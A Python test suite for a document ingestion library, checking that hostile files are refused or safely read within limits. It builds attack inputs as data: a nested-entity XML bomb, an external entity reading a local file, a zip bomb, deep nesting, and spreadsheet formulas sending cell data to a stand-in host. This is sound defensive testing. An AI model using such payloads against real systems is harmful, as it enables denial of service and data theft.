"""Files made to harm whoever reads them: a typed error or what they really say, within limits."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import Workbook
from reportlab.pdfgen.canvas import Canvas

from ingest.apart import Apart, Limits, read_apart
from ingest.errors import IngestError, TooLarge, UnreadableFile
from ingest.loaders.blocks import texts_of
from ingest.parse import read
from tests.ingest.loaders.word_files import package, paragraph, word_file
from tests.ingest.loaders.workbooks import saved, with_part

LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]>"
)
SECONDS = 60.0
BEYOND = ("timeout", "memory", "crashed")
"""What would have stopped it only at its limits."""


def met(data: bytes, name: str) -> tuple[str, str]:
    """What is read from the file apart within a minute, and the reason of the error if it is refused."""
    apart = Apart(Limits(seconds=SECONDS))
    try:
        reading = apart.read(data, name)
    except IngestError as error:
        return "", str(error.fields.get("reason", error.code))
    finally:
        apart.close()
    texts = (t for parsed in reading.documents for t in texts_of(parsed.blocks))
    return "\n".join(texts), ""


def with_entities(data: bytes, part: str, entity: str, declared: str) -> bytes:
    """The package with declarations in one part, and the entity in place of its first ``目标``."""

    def change(xml: str) -> str:
        head, end, body = xml.partition("?>") if xml.startswith("<?xml") else ("", "", xml)
        return f"{head}{end}{declared}{body.replace('目标', f'&{entity};', 1)}"

    return with_part(data, part, change)


def word() -> bytes:
    return word_file(paragraph("目标任务") + paragraph("各单位按时报送佐证材料"))


def workbook() -> bytes:
    book = Workbook()
    for row in (["序号", "目标", "材料"], [1, "报送", "目录"], [2, "备案", "报告"]):
        book.worksheets[0].append(row)
    return saved(book)


@pytest.mark.parametrize(
    ("make", "part", "name"),
    [(word, "word/document.xml", "a.docx"), (workbook, "xl/sharedStrings.xml", "a.xlsx")],
)
def test_entities_within_entities_are_not_unfolded(
    make: Callable[[], bytes], part: str, name: str
) -> None:
    text, refused = met(with_entities(make(), part, "j", LAUGHS), name)
    assert refused not in BEYOND
    assert "哈" not in text


@pytest.mark.parametrize(
    ("make", "part", "name"),
    [(word, "word/document.xml", "a.docx"), (workbook, "xl/sharedStrings.xml", "a.xlsx")],
)
def test_entities_from_elsewhere_are_not_fetched(
    make: Callable[[], bytes], part: str, name: str, tmp_path: Path
) -> None:
    (tmp_path / "secret").write_text("绝不能读到", encoding="utf-8")
    declared = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{(tmp_path / "secret").as_uri()}">]>'
    text, refused = met(with_entities(make(), part, "x", declared), name)
    assert refused not in BEYOND
    assert "绝不能读到" not in text


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.docx", package({"word/document.xml": "<a>" * 200_000})),
        ("b.docx", word_file("<w:tbl><w:tr><w:tc>" * 3_000)),
        ("a.html", b"<div>" * 200_000 + "报送材料".encode()),
        ("a.md", b"> " * 100_000 + "报送材料".encode()),
        ("b.md", b"[" * 100_000 + "报送材料".encode()),
        ("a.rtf", b"{\\rtf1" + b"{" * 200_000),
        ("a.pdf", b"%PDF-1.4\n1 0 obj\n" + b"[" * 200_000),
    ],
)
def test_deep_nesting_ends(name: str, data: bytes) -> None:
    text, refused = met(data, name)
    assert refused not in BEYOND
    assert refused or "报送材料" in text


def test_a_package_that_unpacks_to_gigabytes_is_refused_at_once() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<a/>")
        for number in range(9):
            with archive.open(f"word/part{number}.xml", "w") as part:
                for _ in range(50):
                    part.write(bytes(1024 * 1024))
    assert len(out.getvalue()) < 1024 * 1024
    with pytest.raises(TooLarge):
        read_apart(out.getvalue(), "a.docx")


def test_macros_and_formulas_are_text_at_most() -> None:
    book = Workbook()
    sheet = book.worksheets[0]
    for row in (
        ["序号", "材料", "算式"],
        [1, "目录", '=HYPERLINK("http://example.invalid/"&A1,"点我")'],
        [2, "报告", '=WEBSERVICE("http://example.invalid/")'],
    ):
        sheet.append(row)
    files = {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Auto_Open"}
    out = io.BytesIO(saved(book))
    with zipfile.ZipFile(out, "a") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    reading = read(out.getvalue(), "a.xlsm")
    text = "\n".join(t for parsed in reading.documents for t in texts_of(parsed.blocks))
    assert "目录" in text
    assert "example.invalid" not in text
    assert "Auto_Open" not in text


def test_ten_thousand_pages_are_refused() -> None:
    out = io.BytesIO()
    canvas = Canvas(out)
    for _ in range(10_000):
        canvas.showPage()
    canvas.save()
    with pytest.raises(UnreadableFile) as caught:
        read_apart(out.getvalue(), "a.pdf")
    assert caught.value.fields == {"reason": "over_page_limit"}
